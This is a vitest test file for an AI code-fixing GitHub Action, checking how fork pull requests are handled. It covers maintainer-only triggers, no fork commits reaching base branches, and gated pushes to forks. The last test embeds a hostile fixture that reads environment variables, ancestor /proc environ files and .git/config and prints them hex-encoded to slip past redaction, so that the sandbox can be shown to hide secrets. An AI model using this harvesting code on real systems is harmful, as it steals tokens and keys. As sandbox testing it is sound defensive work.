@@ -1,0 +1,242 @@
+// Fork pull requests through the real bundle (issue 31, guarantee 11): the fake GitHub API, a bare origin holding
+// the fork's head as refs/pull/21/head, and a bare fork. A maintainer's comment fixes the PR's head and gives the fix
+// back as suggestions and a proven patch; nothing of the fork enters a branch of the base repository; readers, and
+// by default the fork's own failed runs, start nothing; push-to-forks pushes only where the PR allows it; and the
+// fork's hostile test code finds no token to steal.
+import fs from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+import { describe, expect, test } from 'vitest';
+import { assistant, toolCall } from '../helpers/fake-openai.js';
+import { sh } from '../helpers/repo.js';
+import { API_KEY, OWNER, REPO, TOKEN, fixing, makeOrigin, useFakeServers, withoutMaskLines } from './harness.js';
+import { pullComment, workflowRunCompleted } from './payloads.js';
+
+const PR = 21;
+const FORK = 'contrib/calc';
+const fake = useFakeServers({ github: { permissions: { maintainer: 'admin', reader: 'read' } } });
+
+/**
+ * An origin, a fork of it whose branch patch-1 adds a line just above tax() (so tax() lies in the PR's diff) plus
+ * `files`, and the PR's head published by the origin as refs/pull/21/head, as GitHub does.
+ */
+function forkPullRequest(files: Record<string, string> = {}) {
+  const origin = makeOrigin();
+  const root = path.dirname(path.dirname(origin.bare));
+  const forkBare = path.join(root, 'contrib', 'calc');
+  sh(root, 'git', ['clone', '-q', '--bare', origin.bare, forkBare]);
+  const dir = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'agent-fix-contrib-')));
+  sh(dir, 'git', ['clone', '-q', forkBare, '.']);
+  sh(dir, 'git', ['checkout', '-q', '-b', 'patch-1']);
+  const calc = path.join(dir, 'src/calculator.js');
+  fs.writeFileSync(
+    calc,
+    fs
+      .readFileSync(calc, 'utf8')
+      .replace('export function tax(', '// Contributed: used by the payroll page.\nexport function tax('),
+  );
+  for (const [rel, content] of Object.entries(files)) {
+    fs.mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
+    fs.writeFileSync(path.join(dir, rel), content);
+  }
+  sh(dir, 'git', ['add', '-A']);
+  sh(dir, 'git', ['commit', '-q', '-m', 'contribution']);
+  sh(dir, 'git', ['push', '-q', 'origin', 'patch-1']);
+  const sha = sh(dir, 'git', ['rev-parse', 'HEAD']).trim();
+  sh(origin.bare, 'git', ['fetch', '-q', forkBare, `refs/heads/patch-1:refs/pull/${PR}/head`]);
+  // The PR's files as GET /pulls/21/files lists them: each file's patch from its first hunk on.
+  const pullFiles = sh(origin.bare, 'git', ['diff', 'main', sha])
+    .split(/^diff --git /m)
+    .filter(Boolean)
+    .map((chunk) => ({
+      filename: /^a\/(\S+)/.exec(chunk)![1]!,
+      patch: chunk.slice(chunk.indexOf('@@')).replace(/\n$/, ''),
+    }));
+  const pull = (maintainerCanModify = false) => ({
+    number: PR,
+    title: 'Document tax()',
+    head: { ref: 'patch-1', sha, repo: { full_name: FORK } },
+    base: { ref: 'main' },
+    maintainerCanModify,
+  });
+  return { origin, forkBare, sha, pullFiles, pull };
+}
+
+/** The branches of a bare repository that contain `sha`. */
+const branchesWith = (bare: string, sha: string) =>
+  sh(bare, 'git', ['for-each-ref', '--contains', sha, '--format=%(refname)', 'refs/heads']).trim();
+
+const comment = (commenter = 'maintainer') => pullComment(PR, 'Document tax()', '/agent-fix', commenter);
+
+// Two bundle runs per test on a loaded 2-core machine.
+describe('fork pull requests', { timeout: 240_000 }, () => {
+  test("a maintainer's comment on a fork PR: suggestions on the PR, the proven patch in a comment, no branch here", async () => {
+    const f = forkPullRequest();
+    const { gh } = await fake.servers(fixing('tax() applies its rate.'), {
+      pulls: [f.pull()],
+      pullFiles: { [PR]: f.pullFiles },
+    });
+    const run = await fake.run({ event: 'issue_comment', payload: comment(), origin: f.origin });
+    expect(run.stdout).toContain(`fetching refs/pull/${PR}/head`);
+    expect(run.outputs.status, run.stdout + run.stderr).toBe('resolved');
+    expect(run.outputs['pr-number']).toBe(String(PR));
+
+    // A review with a suggested change on the PR head, valid for GitHub (the fake refuses an invalid request).
+    expect(gh.reviews).toHaveLength(1);
+    const review = gh.reviews[0]!;
+    expect(review.commit_id).toBe(f.sha);
+    expect(review.event).toBe('COMMENT');
+    expect(review.comments).toHaveLength(1);
+    expect(review.comments[0]).toMatchObject({ path: 'src/calculator.js', side: 'RIGHT' });
+    expect(review.comments[0]!.body).toContain('```suggestion\n');
+    expect(review.comments[0]!.body).toContain('income * rate');
+
+    // The comment: the two commands, the patch (collapsed), the fail-to-pass table, the integrity verdict, the tree.
+    const body = gh.comments.find((c) => c.issue === PR && c.body.includes('agent-fix.patch'))?.body ?? '';
+    expect(body).toContain('git apply --index agent-fix.patch');
+    expect(body).toContain('<details><summary>Patch');
+    expect(body).toMatch(/Fail-to-pass: \d+ tests? red on the old code/);
+    expect(body).toMatch(/Test integrity: /);
+    const tree = /Proven tree: `([0-9a-f]{40})`/.exec(body)?.[1];
+    expect(tree).toBeDefined();
+    // The contributor's two commands on the PR head give exactly the proven tree.
+    const patch = /```diff\n([\s\S]*?)\n```/.exec(body)![1]! + '\n';
+    const clone = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'agent-fix-apply-')));
+    sh(clone, 'git', ['clone', '-q', '-b', 'patch-1', f.forkBare, '.']);
+    fs.writeFileSync(path.join(clone, 'agent-fix.patch'), patch);
+    sh(clone, 'git', ['apply', '--index', 'agent-fix.patch']);
+    expect(sh(clone, 'git', ['write-tree']).trim()).toBe(tree);
+
+    // Guarantee 11: no branch of the base repository holds the fork's commit, no PR was opened, the fork is as it was.
+    expect(branchesWith(f.origin.bare, f.sha)).toBe('');
+    expect(sh(f.origin.bare, 'git', ['for-each-ref', '--format=%(refname)', 'refs/heads']).trim()).toBe(
+      'refs/heads/main',
+    );
+    expect(gh.requests.some((r) => r.method === 'POST' && /\/pulls$/.test(r.path))).toBe(false);
+    expect(sh(f.forkBare, 'git', ['rev-parse', 'patch-1']).trim()).toBe(f.sha);
+  });
+
+  test('a reader commenting on a fork PR starts nothing; fork-prs: off says which value would allow a run', async () => {
+    const f = forkPullRequest();
+    const { gh, model } = await fake.servers(fixing(), { pulls: [f.pull()], pullFiles: { [PR]: f.pullFiles } });
+    const reader = await fake.run({ event: 'issue_comment', payload: comment('reader'), origin: f.origin });
+    expect(reader.outputs.status).toBe('skipped');
+    expect(reader.stdout).toContain('@reader has read access');
+    const off = await fake.run({
+      event: 'issue_comment',
+      payload: comment(),
+      origin: f.origin,
+      inputs: { 'fork-prs': 'off' },
+    });
+    expect(off.outputs.status).toBe('skipped');
+    expect(off.stdout).toContain('fork-prs is "off"; set `fork-prs: comment`');
+    expect(model.requests).toHaveLength(0);
+    expect(gh.comments.filter((c) => c.issue === PR)).toHaveLength(0);
+    expect(gh.reviews).toHaveLength(0);
+  });
+
+  test("a fork's failed CI run starts nothing by default, and a run with fork-prs: auto", async () => {
+    const f = forkPullRequest();
+    const payload = workflowRunCompleted({
+      owner: OWNER,
+      repo: REPO,
+      runId: 5151,
+      conclusion: 'failure',
+      headBranch: 'patch-1',
+      headSha: f.sha,
+      headRepo: FORK,
+    });
+    const github = { pulls: [f.pull()], pullFiles: { [PR]: f.pullFiles } };
+    const { model } = await fake.servers(fixing(), github);
+    const byDefault = await fake.run({ event: 'workflow_run', payload, origin: f.origin });
+    expect(byDefault.outputs.status).toBe('skipped');
+    expect(byDefault.stdout).toContain('fork-prs is "comment"; set `fork-prs: auto`');
+    expect(model.requests).toHaveLength(0);
+
+    const { gh } = await fake.servers(fixing(), github);
+    const auto = await fake.run({ event: 'workflow_run', payload, origin: f.origin, inputs: { 'fork-prs': 'auto' } });
+    expect(auto.outputs.status, auto.stdout + auto.stderr).toBe('resolved');
+    expect(gh.reviews).toHaveLength(1);
+    expect(branchesWith(f.origin.bare, f.sha)).toBe('');
+  });
+
+  test('push-to-forks pushes the proven commit to the fork only where the PR allows edits from maintainers', async () => {
+    const f = forkPullRequest();
+    const { gh } = await fake.servers(fixing(), { pulls: [f.pull(false)], pullFiles: { [PR]: f.pullFiles } });
+    const refused = await fake.run({
+      event: 'issue_comment',
+      payload: comment(),
+      origin: f.origin,
+      inputs: { 'push-to-forks': 'true' },
+    });
+    expect(refused.outputs.status).toBe('resolved');
+    expect(sh(f.forkBare, 'git', ['rev-parse', 'patch-1']).trim()).toBe(f.sha);
+    expect(gh.comments.find((c) => c.issue === PR)?.body).toContain('does not allow edits from maintainers');
+    expect(gh.reviews).toHaveLength(1);
+
+    const allowed = await fake.servers(fixing(), { pulls: [f.pull(true)], pullFiles: { [PR]: f.pullFiles } });
+    const pushed = await fake.run({
+      event: 'issue_comment',
+      payload: comment(),
+      origin: f.origin,
+      inputs: { 'push-to-forks': 'true' },
+    });
+    expect(pushed.outputs.status, pushed.stdout + pushed.stderr).toBe('resolved');
+    const tip = sh(f.forkBare, 'git', ['rev-parse', 'patch-1']).trim();
+    expect(tip).not.toBe(f.sha);
+    expect(sh(f.forkBare, 'git', ['rev-parse', `${tip}^`]).trim()).toBe(f.sha);
+    const body = allowed.gh.comments.find((c) => c.issue === PR)?.body ?? '';
+    expect(body).toContain(`Pushed ${tip.slice(0, 7)} to \`${FORK}:patch-1\``);
+    expect(body).toContain(`Proven tree: \`${sh(f.forkBare, 'git', ['rev-parse', `${tip}^{tree}`]).trim()}\``);
+    expect(allowed.gh.reviews).toHaveLength(0);
+    expect(branchesWith(f.origin.bare, f.sha)).toBe('');
+    // The pushed commit went to the fork only: the base repository does not even hold the object.
+    expect(() => sh(f.origin.bare, 'git', ['cat-file', '-e', tip])).toThrow();
+  });
+
+  test("the fork's hostile test code, run inside the sandbox, finds neither token nor key", async () => {
+    // Runs with every test: reads its environment, every ancestor's /proc environ and .git/config, and prints them hex-encoded so no redactor can recognise them.
+    const steal = [
+      "import fs from 'node:fs';",
+      "import { test } from 'node:test';",
+      "test('harmless', () => {",
+      '  const found = [JSON.stringify(process.env)];',
+      '  let pid = process.pid;',
+      '  for (let i = 0; i < 20 && pid > 1; i++) {',
+      "    try { found.push(fs.readFileSync(`/proc/${pid}/environ`, 'utf8')); } catch {}",
+      "    try { pid = Number(/PPid:\\s*(\\d+)/.exec(fs.readFileSync(`/proc/${pid}/status`, 'utf8'))[1]); } catch { break; }",
+      '  }',
+      "  try { found.push(fs.readFileSync('.git/config', 'utf8')); } catch {}",
+      "  console.log('STOLEN ' + Buffer.from(found.join('\\n')).toString('hex'));",
+      '});',
+      '',
+    ].join('\n');
+    const f = forkPullRequest({ 'test/steal.test.js': steal });
+    const script = [
+      assistant(null, toolCall('s', 'run_bash', { command: 'node --test test/steal.test.js' })),
+      ...fixing(),
+    ];
+    const { gh, model } = await fake.servers(script, { pulls: [f.pull()], pullFiles: { [PR]: f.pullFiles } });
+    const run = await fake.run({
+      event: 'issue_comment',
+      payload: comment(),
+      origin: f.origin,
+      inputs: { sandbox: 'bwrap' },
+    });
+    expect(run.outputs.status, run.stdout + run.stderr).toBe('resolved');
+    const seen = JSON.stringify(model.requests);
+    const blobs = [...seen.matchAll(/STOLEN ([0-9a-f]+)/g)].map((m) => Buffer.from(m[1]!, 'hex').toString('utf8'));
+    // The hostile code ran and its output reached the model: what it found is there to check.
+    expect(blobs.length).toBeGreaterThan(0);
+    expect(blobs.join('\n')).toContain('PATH');
+    for (const secret of [TOKEN, API_KEY]) {
+      const hex = Buffer.from(secret).toString('hex');
+      for (const blob of blobs) expect(blob).not.toContain(secret);
+      expect(seen).not.toContain(hex);
+      expect(seen).not.toContain(secret);
+      expect(JSON.stringify(gh.requests.map((r) => r.body))).not.toContain(hex);
+      expect(withoutMaskLines(run.stdout)).not.toContain(hex);
+      expect(run.summary).not.toContain(hex);
+    }
+  });
+});
